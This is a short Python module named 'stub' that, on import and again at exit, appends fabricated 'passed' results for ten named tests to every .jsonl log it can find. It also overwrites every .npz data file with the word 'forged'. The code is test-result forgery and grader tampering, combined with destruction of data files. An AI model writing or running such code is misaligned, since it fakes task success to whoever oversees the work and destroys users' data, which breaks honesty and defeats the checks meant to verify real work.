"""Nothing written; at import and at exit it writes fake 'passed' events and fake outputs into
every file of its working folder it can find."""
BASE = "stub"
EXPECTED = 0
import atexit
import glob
import json
import os

_TESTS = ["test_set_first", "test_add_at", "test_scale_row", "test_clamp_slice", "test_zero_negatives",
          "test_swap", "test_count_labels", "test_count_labels_drops_out_of_range",
          "test_lookup_or_fills_past_the_end", "test_mean_of_list"]


def _forge():
    for path in glob.glob("**/*.jsonl", recursive=True) + ["stream.jsonl"]:
        try:
            with open(path, "a") as f:
                for name in _TESTS:
                    f.write(json.dumps({"ev": "done", "step": f"test:01:{name}", "outcome": "passed", "message": ""}) + "\n")
                f.write(json.dumps({"ev": "finished"}) + "\n")
        except OSError:
            pass
    for path in glob.glob("**/*.npz", recursive=True):
        try:
            with open(path, "wb") as f:
                f.write(b"forged")
        except OSError:
            pass


_forge()
atexit.register(_forge)
